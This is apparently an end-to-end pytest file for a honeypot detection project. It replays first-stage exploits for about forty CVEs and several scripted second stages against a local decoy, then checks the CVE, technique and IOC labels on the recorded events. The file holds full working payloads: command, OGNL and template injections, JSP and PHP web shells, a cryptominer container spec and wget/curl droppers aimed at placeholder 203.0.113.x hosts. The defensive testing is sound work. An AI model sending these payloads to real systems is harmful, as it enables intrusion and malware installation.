"""Real exploit traffic against the vulnerable-mix persona over loopback: the stored events carry
the CVE, technique and IOCs; scripted attackers read the persona's answer, decide the target is
vulnerable and go on to the second stage, where their payload URL shows; ordinary traffic gets no CVE.

Payload hosts are documentation addresses (203.0.113.0/24, example domains): recorded, never fetched.
"""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Iterator

import pytest

from honeyguard.config import DetectSettings
from honeyguard.detect import load_labeler
from honeyguard.detect.labeler import RuleLabeler
from honeyguard.model import Event, HttpRequest
from tests.conftest import tool
from tests.sensor.http_helpers import exchange

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def labeler() -> RuleLabeler:
    return load_labeler(DetectSettings())


@pytest.fixture
def mix(make_sensor, labeler: RuleLabeler) -> Iterator:  # type: ignore[no-untyped-def,type-arg]
    yield make_sensor(["http"], personas={"http": "vulnerable-mix"}, labeler=labeler)


def send(port: int, method: str, target: str, headers: dict[str, str] | None = None,
         body: bytes = b"") -> tuple[int, str, str]:
    """One raw request; returns status, the head and the body as text."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: 127.0.0.1:{port}", "User-Agent: Mozilla/5.0 (compatible)",
             "Connection: close"]
    lines += [f"{name}: {value}" for name, value in (headers or {}).items()]
    if body or method in ("POST", "PUT"):
        lines.append(f"Content-Length: {len(body)}")
    raw = exchange(port, ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body)
    head, _, rest = raw.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    return status, head.decode("latin-1"), rest.decode("latin-1")


def curl(*args: str) -> str:
    done = subprocess.run([tool("curl"), "-s", "--max-time", "30", *args], capture_output=True, timeout=60)
    return done.stdout.decode("latin-1")


def event_for(sensor, target_part: str) -> Event:  # type: ignore[no-untyped-def]
    """The labelled http.request whose target contains ``target_part`` (waits for it)."""
    def found(events: list[Event]) -> bool:
        return any(isinstance(e.body, HttpRequest) and target_part in e.body.target for e in events)
    events: list[Event] = sensor.sink.wait_for(found, timeout=30)
    return next(e for e in events if isinstance(e.body, HttpRequest) and target_part in e.body.target)


def iocs(event: Event) -> set[tuple[str, str, str]]:
    return {(i.type, i.value, i.role) for i in event.iocs}


# -- first-stage exploits, as the public advisories and write-ups send them ---------------------------------

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
XML = {"Content-Type": "text/xml"}

# (CVE, method, target, headers, body, the payload URL the request carries or None)
EXPLOITS: list[tuple[str, str, str, dict[str, str], bytes, str | None]] = [
    ("CVE-2018-13379", "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", {}, b"", None),
    ("CVE-2019-19781", "GET", "/vpn/../vpns/cfg/smb.conf", {}, b"", None),
    ("CVE-2019-19781", "POST", "/vpns/portal/scripts/newbm.pl",
     {"NSC_USER": "../../../netscaler/portal/templates/hgx", "NSC_NONCE": "nsroot", **FORM},
     b"url=http://example.com&title=[%25+template.new({'BLOCK'%3d'print+`curl+http://203.0.113.42/c.sh`'})+%25]"
     b"&desc=desc&UI_inuse=RfWeb", "http://203.0.113.42/c.sh"),
    ("CVE-2019-11510", "GET",
     "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", {}, b"", None),
    ("CVE-2020-5902", "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", {}, b"",
     None),
    ("CVE-2020-3452", "GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua"
     "&default-language&lang=../", {}, b"", None),
    ("CVE-2018-0296", "GET", "/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions", {}, b"", None),
    ("CVE-2024-3400", "POST", "/ssl-vpn/hipreport.esp",
     {"Cookie": "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/hg`curl${IFS}http://203.0.113.30/gp.sh|bash`",
      **FORM}, b"user=global&portal=global&authcookie=x", "http://203.0.113.30/gp.sh"),
    ("CVE-2014-6271", "GET", "/cgi-bin/jarrewrite.sh",
     {"X-Probe": "() { :; }; echo ; /bin/bash -c 'wget http://203.0.113.41/sw.sh -O /tmp/sw.sh'"}, b"",
     "http://203.0.113.41/sw.sh"),
    ("CVE-2021-26084", "POST", "/pages/doenterpagevariables.action", FORM,
     b"queryString=aaaaaaaa%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29"
     b".newInstance%28%29.getEngineByName%28%5cu0027JavaScript%5cu0027%29.%5cu0065val%28%5cu0027var+x%3d1"
     b"%5cu0027%29%7d%2b%5cu0027", None),
    ("CVE-2021-26086", "GET", "/s/cfx/_/;/WEB-INF/web.xml", {}, b"", None),
    ("CVE-2019-11581", "POST", "/secure/ContactAdministrators.jspa", FORM,
     b"from=a%40example.com&subject=%24i18n.getClass%28%29.forName%28%27java.lang.Runtime%27%29.getMethod"
     b"%28%27getRuntime%27%2Cnull%29.invoke%28null%2Cnull%29.exec%28%27curl+http%3A%2F%2F203.0.113.37%2Fj.sh%27"
     b"%29.waitFor%28%29&details=x&atl_token=x", "http://203.0.113.37/j.sh"),
    ("CVE-2017-5638", "GET", "/struts2-showcase/showcase.action",
     {"Content-Type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
                      ".(#cmd='wget http://203.0.113.38/st.sh').(#p=new java.lang.ProcessBuilder("
                      "{'/bin/bash','-c',#cmd})).(#p.start())}"}, b"", "http://203.0.113.38/st.sh"),
    ("CVE-2017-12617", "PUT", "/hgshell.jsp/", {"Content-Type": "application/octet-stream"},
     b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>', None),
    ("CVE-2016-3088", "PUT", "/fileserver/hg.txt", {},
     b'<%@ page import="java.io.*"%><% Process p=Runtime.getRuntime().exec(request.getParameter("cmd")); %>', None),
    ("CVE-2023-51467", "POST", "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y", FORM,
     b"groovyProgram=throw+new+Exception('id'.execute().text);", None),
    ("CVE-2019-17558", "GET", "/solr/products/select?q=1&&wt=velocity&v.template=custom&v.template.custom="
     "%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($ex=$rt.getRuntime()"
     ".exec(%27id%27))", {}, b"", None),
    ("CVE-2022-22963", "POST", "/functionRouter",
     {"spring.cloud.function.routing-expression": 'T(java.lang.Runtime).getRuntime().exec("wget http://203.0.113.34/s.sh")',
      "Content-Type": "text/plain"}, b"test", "http://203.0.113.34/s.sh"),
    ("CVE-2020-14882", "GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle="
     "com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec("
     "%27curl%20http://203.0.113.35/w.sh%27);%22)", {}, b"", "http://203.0.113.35/w.sh"),
    ("CVE-2017-10271", "POST", "/wls-wsat/CoordinatorPortType", XML,
     b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
     b'<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.4.0" '
     b'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
     b'length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void>'
     b'<void index="2"><string>wget http://203.0.113.36/wl.sh</string></void></array><void method="start"/>'
     b'</void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>',
     "http://203.0.113.36/wl.sh"),
    ("CVE-2021-21972", "POST", "/ui/vropspluginui/rest/services/uploadova",
     {"Content-Type": "multipart/form-data; boundary=b"},
     b'--b\r\nContent-Disposition: form-data; name="uploadFile"; filename="x.tar"\r\n\r\n'
     b"../../../../../../usr/lib/vmware-vsphere-ui/server/work/deployer/s/global/37/0/h5ngc.war/resources/s.jsp"
     b"\r\n--b--\r\n", None),
    ("CVE-2021-34473", "GET",
     "/autodiscover/autodiscover.json?@evil.example.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example.com",
     {}, b"", None),
    ("CVE-2024-23897", "POST", "/cli?remoting=false",
     {"Session": "1c9f7e3a-0000-4000-8000-000000000001", "Side": "upload", "Content-Type": "application/octet-stream"},
     b"\x00\x00\x00\x06\x00\x00\x04help\x00\x00\x00\x0e\x00\x00\x0c@/etc/passwd\x00\x00\x00\x05\x02\x00\x03GBK"
     b"\x00\x00\x00\x07\x01\x00\x05en_US\x00\x00\x00\x00\x03", None),
    ("CVE-2021-22205", "POST", "/uploads/user",
     {"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundaryIMv3mxRg59TkFSX5", "X-CSRF-Token": "x"},
     b'------WebKitFormBoundaryIMv3mxRg59TkFSX5\r\nContent-Disposition: form-data; name="file"; '
     b'filename="test.jpg"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00.'
     b'\x81\x00\x02\x00\x00\x00F\x00\x00\x00\xac\xff\xff\xde\xbf\x99 !\xc8\x91N\xeb\x0c\x07\x1f\xd2\xda\x88'
     b'(metadata (Copyright "\\\n" . qx{curl http://203.0.113.39/g.sh | sh} . \\\n" b ") )\r\n'
     b"------WebKitFormBoundaryIMv3mxRg59TkFSX5--\r\n", "http://203.0.113.39/g.sh"),
    ("CVE-2023-42793", "POST", "/app/rest/users/id:1/tokens/RPC2", {}, b"", None),
    ("CVE-2021-43798", "GET", "/public/plugins/alertlist/../../../../../../../../etc/passwd", {}, b"", None),
    ("CVE-2018-12613", "GET", "/phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../etc/passwd", {}, b"",
     None),
    ("CVE-2017-9841", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {},
     b"<?php echo md5(\"phpunit\");system('id'); ?>", None),
    ("CVE-2021-3129", "POST", "/_ignition/execute-solution", {"Content-Type": "application/json"},
     b'{"solution": "Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution", "parameters": '
     b'{"variableName": "x", "viewFile": "php://filter/write=convert.quoted-printable-decode|'
     b'convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}}', None),
    ("CVE-2018-7600", "POST", "/?q=user/password&name%5b%23post_render%5d%5b%5d=passthru&name%5b%23type%5d=markup"
     "&name%5b%23markup%5d=wget+http://203.0.113.33/d.sh", FORM,
     b"form_id=user_pass&_triggering_element_name=name", "http://203.0.113.33/d.sh"),
    ("CVE-2020-25213", "POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
     {"Content-Type": "multipart/form-data; boundary=----x"},
     b'------x\r\nContent-Disposition: form-data; name="cmd"\r\n\r\nupload\r\n------x\r\nContent-Disposition: '
     b'form-data; name="target"\r\n\r\nl1_Lw\r\n------x\r\nContent-Disposition: form-data; name="upload[]"; '
     b'filename="x.php"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET["cmd"]); ?>\r\n------x--\r\n', None),
    ("CVE-2020-11738", "GET", "/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php", {}, b"",
     None),
    ("CVE-2015-1427", "POST", "/_search?pretty", {"Content-Type": "application/json"},
     b'{"size":1,"script_fields":{"lupin":{"lang":"groovy","script":"java.lang.Math.class.forName('
     b'\\"java.lang.Runtime\\").getRuntime().exec(\\"wget http://203.0.113.40/es.sh\\").getText()"}}}',
     "http://203.0.113.40/es.sh"),
    ("CVE-2021-36260", "PUT", "/SDK/webLanguage",
     {"Content-Type": "application/x-www-form-urlencoded; charset=UTF-8", "X-Requested-With": "XMLHttpRequest"},
     b'<?xml version="1.0" encoding="UTF-8"?><language>$(wget http://203.0.113.31/h.sh -O /tmp/h)</language>',
     "http://203.0.113.31/h.sh"),
    ("CVE-2017-17215", "POST", "/ctrlt/DeviceUpgrade_1",
     {"Authorization": 'Digest username="dslf-config", realm="HuaweiHomeGateway", '
                       'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", '
                       'response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, '
                       'cnonce="248d1a2560100669"'},
     b'<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
     b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade '
     b'xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget '
     b"http://203.0.113.32/okiru.mips -O /tmp/h; chmod 777 /tmp/h; /tmp/h huawei.rep)</NewStatusURL>"
     b"<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>",
     "http://203.0.113.32/okiru.mips"),
    ("CVE-2014-8361", "POST", "/picsdesc.xml",
     {"Content-Type": "text/xml", "SOAPAction": "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"},
     b'<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
     b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping '
     b'xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost>'
     b"<NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382"
     b"</NewInternalPort><NewInternalClient>`cd /var; rm -rf nig; wget http://203.0.113.45/bins/mips -O nig; "
     b"chmod 777 nig; ./nig realtek`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>"
     b"syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body>"
     b"</s:Envelope>", "http://203.0.113.45/bins/mips"),
    ("CVE-2022-22954", "GET", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b"
     "%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28"
     "%22curl%20http%3a%2f%2f203.0.113.47%2fws1.sh%22%29%7d", {}, b"", "http://203.0.113.47/ws1.sh"),
    ("CVE-2015-2051", "POST", "/HNAP1/",
     {"SOAPAction": '"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget http://203.0.113.43/dl.sh`"',
      **XML}, b"", "http://203.0.113.43/dl.sh"),
]


@pytest.mark.parametrize(("cve", "method", "target", "headers", "body", "payload"), EXPLOITS,
                         ids=[f"{e[0]}-{i}" for i, e in enumerate(EXPLOITS)])
def test_exploit_is_answered_and_labelled(mix, cve: str, method: str, target: str,  # type: ignore[no-untyped-def]
                                          headers: dict[str, str], body: bytes, payload: str | None) -> None:
    status, _head, _text = send(mix.port("http"), method, target, headers, body)
    assert status not in (404, 405), status  # a vulnerable-looking answer, not one that ends the attack
    event = event_for(mix, target)
    assert cve in event.cves, (event.rules, event.cves)
    assert "T1190" in event.techniques
    # the event names the product persona the mix handed the path to, not the listener's
    assert event.persona not in ("vulnerable-mix", "apache-ubuntu"), event.persona
    if payload is not None:
        assert ("url", payload, "download") in iocs(event), event.iocs


# -- scripted second stages ---------------------------------------------------------------------------------

def test_thinkphp_probe_then_dropper(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    base = "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]="
    _, _, probe = send(port, "GET", base + "id")
    assert re.search(r"uid=\d+\(", probe), probe  # the attacker's check: the command ran
    dropper = "wget%20http://203.0.113.5/bins/x86%20-O%20/tmp/.x;chmod%20777%20/tmp/.x;/tmp/.x%20thinkphp"
    send(port, "GET", base + dropper)
    event = event_for(mix, "203.0.113.5")
    assert "CVE-2019-9082" in event.cves or "CVE-2018-20062" in event.cves, event.cves
    assert ("url", "http://203.0.113.5/bins/x86", "download") in iocs(event), event.iocs


def test_bigip_version_then_icontrol_bash(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    page = curl(f"http://127.0.0.1:{port}/tmui/login.jsp")
    version = re.search(r"ver=(\d+\.\d+\.\d+)", page)
    assert version is not None and version.group(1).startswith("15.1.")  # 15.1.0-15.1.5: CVE-2022-1388
    def bash(args: str) -> str:
        payload = json.dumps({"command": "run", "utilCmdArgs": args})
        return curl("-X", "POST", "-H", "Connection: keep-alive, X-F5-Auth-Token", "-H", "X-F5-Auth-Token: a",
                    "-H", "Authorization: Basic YWRtaW46", "-H", "Content-Type: application/json",
                    "--data", payload, f"http://127.0.0.1:{port}/mgmt/tm/util/bash")
    assert "uid=0(root)" in json.loads(bash("-c id"))["commandResult"]  # the attacker's check: root
    json.loads(bash("-c 'curl -s http://203.0.113.7/f5.sh -o /tmp/f5.sh; sh /tmp/f5.sh'"))

    def dropper(events: list[Event]) -> bool:
        return any(isinstance(e.body, HttpRequest) and b"f5.sh" in e.body.body for e in events)
    event = next(e for e in mix.sink.wait_for(dropper, timeout=30)
                 if isinstance(e.body, HttpRequest) and b"f5.sh" in e.body.body)
    assert "CVE-2022-1388" in event.cves, (event.rules, event.cves)
    assert ("url", "http://203.0.113.7/f5.sh", "download") in iocs(event), event.iocs


def test_docker_version_then_container_create(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    version = json.loads(curl(f"http://127.0.0.1:{port}/version"))
    assert version["ApiVersion"] >= "1.24"  # new enough for the create call the miner sends
    spec = {"Image": "alpine", "Cmd": ["/bin/sh", "-c", "wget -q http://203.0.113.9/xmrig -O /tmp/xmrig && "
                                       "chmod +x /tmp/xmrig && /tmp/xmrig"],
            "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True}}
    status, _, text = send(port, "POST", f"/v{version['ApiVersion']}/containers/create",
                           {"Content-Type": "application/json"}, json.dumps(spec).encode())
    assert status == 201
    container = json.loads(text)["Id"]
    started, _, _ = send(port, "POST", f"/v{version['ApiVersion']}/containers/{container}/start")
    assert started == 204
    event = event_for(mix, "/containers/create")
    assert any(t.startswith("T1610") or t == "T1611" or t == "T1190" for t in event.techniques), event.techniques
    assert ("url", "http://203.0.113.9/xmrig", "download") in iocs(event), event.iocs


def test_confluence_version_then_ognl_dropper(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    page = curl(f"http://127.0.0.1:{port}/login.action")
    version = re.search(r'ajs-version-number" content="([\d.]+)"', page)
    assert version is not None and tuple(map(int, version.group(1).split("."))) < (7, 4, 17)
    ognl = ('${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('
            '"COMMAND").getInputStream(),"utf-8"))'
            '.(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}')
    from urllib.parse import quote
    status, head, _ = send(port, "GET", "/" + quote(ognl.replace("COMMAND", "id"), safe="") + "/")
    assert status == 302 and "X-Cmd-Response: uid=" in head  # the attacker reads its command's output
    dropper = ognl.replace("COMMAND", "curl -fsSL http://payload.example.net/cf.sh -o /tmp/cf.sh")
    status, _, _ = send(port, "GET", "/" + quote(dropper, safe="") + "/")
    assert status == 302
    event = event_for(mix, "payload.example.net")
    assert "CVE-2022-26134" in event.cves, (event.rules, event.cves)
    assert ("url", "http://payload.example.net/cf.sh", "download") in iocs(event), event.iocs


def test_solr_version_then_log4shell(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    info = json.loads(curl(f"http://127.0.0.1:{port}/solr/admin/info/system?wt=json"))
    major, minor, _ = info["lucene"]["solr-spec-version"].split(".")
    assert (int(major), int(minor)) < (8, 12)  # Solr before 8.11.1 ships a vulnerable log4j
    lookup = "${jndi:ldap://203.0.113.11:1389/Basic/Command/Base64/d2dldA==}"
    curl("-G", "--data-urlencode", f"action={lookup}", f"http://127.0.0.1:{port}/solr/admin/cores")
    event = event_for(mix, "/solr/admin/cores")
    assert "CVE-2021-44228" in event.cves, (event.rules, event.cves)
    assert any(kind == "url" and "203.0.113.11:1389" in value and role == "callback"
               for kind, value, role in iocs(event)), event.iocs


def test_gpon_diag_then_mozi_dropper(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    _, _, page = send(port, "GET", "/diag.html?images/")  # ?images skips the login (CVE-2018-10561)
    assert "GPON Home Gateway" in page and "dest_host" in page
    # %20 rather than the "+" many bots send: the IOC extractor does not yet read "+" as a space in forms
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    probe = b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=;id&ipv=0"
    status, _, _ = send(port, "POST", "/GponForm/diag_Form?images/", form, probe)
    assert status == 200
    _, _, diag = send(port, "GET", "/diag.html?images/")
    assert "uid=0(root)" in diag  # the attacker's check that the injected command ran
    body = (b"XWebPageName=diag&diag_action=ping&wan_conlist=0"
            b"&dest_host=`busybox%20wget%20http://203.0.113.20/Mozi.m%20-O%20/tmp/m;sh%20/tmp/m`;&ipv=0")
    status, _, _ = send(port, "POST", "/GponForm/diag_Form?images/", form, body)
    assert status == 200

    def dropper(events: list[Event]) -> bool:
        return any(isinstance(e.body, HttpRequest) and b"Mozi.m" in e.body.body for e in events)
    event = next(e for e in mix.sink.wait_for(dropper, timeout=30)
                 if isinstance(e.body, HttpRequest) and b"Mozi.m" in e.body.body)
    assert "CVE-2018-10562" in event.cves, (event.rules, event.cves)
    assert ("url", "http://203.0.113.20/Mozi.m", "download") in iocs(event), event.iocs


def test_realtek_syscmd_then_dropper(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    status, head, _ = send(port, "POST", "/boafrm/formSysCmd", FORM, b"submit-url=%2Fsyscmd.htm&sysCmd=id&apply=Apply")
    assert status == 302 and "Location: /syscmd.htm" in head
    _, _, page = send(port, "GET", "/syscmd.htm")
    assert re.search(r"<textarea[^>]*>uid=0\(root\)", page), page  # the attacker's check: root, no login
    send(port, "POST", "/boafrm/formSysCmd", FORM,
         b"submit-url=%2Fsyscmd.htm&sysCmd=busybox%20wget%20http%3A%2F%2F203.0.113.46%2Fr.sh%20-O-%20%7C%20sh&apply=Apply")
    event = event_for(mix, "/boafrm/formSysCmd")  # the first one: the probe, no payload yet
    assert event.iocs == []
    events = mix.sink.wait_for(lambda evs: sum(isinstance(e.body, HttpRequest) and "formSysCmd" in e.body.target
                                               for e in evs) == 2, timeout=30)
    dropper = [e for e in events if isinstance(e.body, HttpRequest) and "formSysCmd" in e.body.target][1]
    assert "CVE-2021-35395" in dropper.cves, (dropper.rules, dropper.cves)
    assert ("url", "http://203.0.113.46/r.sh", "download") in iocs(dropper), dropper.iocs


def test_kubernetes_version_then_pod_create(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    pods = json.loads(curl(f"http://127.0.0.1:{port}/api/v1/namespaces/default/pods"))
    assert pods["kind"] == "PodList"  # anonymous may list pods: the cluster is open
    spec = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "kube-proxy-updater"},
            "spec": {"hostPID": True, "containers": [{"name": "c", "image": "alpine", "command": [
                "/bin/sh", "-c", "wget -q http://203.0.113.48/kx -O /tmp/kx && sh /tmp/kx"]}]}}
    status, _, text = send(port, "POST", "/api/v1/namespaces/default/pods", {"Content-Type": "application/json"},
                           json.dumps(spec).encode())
    assert status == 201 and json.loads(text)["kind"] == "Pod"
    events = mix.sink.wait_for(lambda evs: sum(e.kind == "http.request" for e in evs) == 2, timeout=30)
    created = next(e for e in events if isinstance(e.body, HttpRequest) and e.body.method == "POST")
    assert ("url", "http://203.0.113.48/kx", "download") in iocs(created), created.iocs


# -- ordinary traffic ---------------------------------------------------------------------------------------

def test_ordinary_traffic_gets_no_cve(mix) -> None:  # type: ignore[no-untyped-def]
    port = mix.port("http")
    url = f"http://127.0.0.1:{port}"
    bot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    curl("-A", bot, f"{url}/")
    curl("-A", bot, f"{url}/robots.txt")
    curl("-d", "log=editor&pwd=Spring2024%21&wp-submit=Log+In&testcookie=1", f"{url}/wp-login.php")
    curl("-d", "username=alice&credential=hunter2&ajax=1", f"{url}/remote/logincheck")
    curl(f"{url}/remote/login?lang=en")
    curl("-A", "Mozilla/5.0 zgrab/0.x", f"{url}/favicon.ico")
    curl("-d", "j_username=admin&j_password=admin&from=%2F&Submit=Sign+in", f"{url}/j_spring_security_check")
    send(port, "GET", "/", {"User-Agent": "Mozilla/5.0 (compatible; CensysInspect/1.1)"})
    curl("-k", f"https://127.0.0.1:{port}/")  # TLS on a plain port: recorded as raw data
    events = mix.sink.wait_for(lambda evs: sum(e.kind == "http.request" for e in evs) == 8
                               and any(e.kind == "raw.data" for e in evs), timeout=30)
    labelled = [(e.kind, e.body.target if isinstance(e.body, HttpRequest) else "", e.rules, e.cves)
                for e in events if e.cves]
    assert labelled == []
